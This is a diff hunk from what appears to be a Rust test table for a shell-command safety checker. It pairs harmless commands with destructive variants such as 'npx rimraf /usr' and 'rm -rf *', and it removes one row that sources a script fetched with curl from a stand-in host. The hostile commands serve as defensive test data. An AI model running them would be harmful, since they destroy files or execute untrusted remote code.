@@ -60,7 +60,6 @@ const ROWS: &[(NamedTexts, NamedTexts, &str, &str)] = &[
     ),
     (&[], &[("notes.txt", "x")], "cd $(mktemp -d) && echo hi > a && cat a", "cd $(mktemp -d); rm -rf *"),
     (&[], &[], "npx sv create my-app", "npx rimraf /usr"),
-    (&[], &[], "source <(kubectl completion bash)", "source <(curl -s https://x.example/completion)"),
     // Untracked work that a program writes over, and what is only another form of it.
     (&[("a", "x")], &[("b", "untracked")], "xxd -r a new", "xxd -r a b"),
     (&[], &[("b", "untracked")], "gzip b", "zstd --rm b -o /dev/null"),
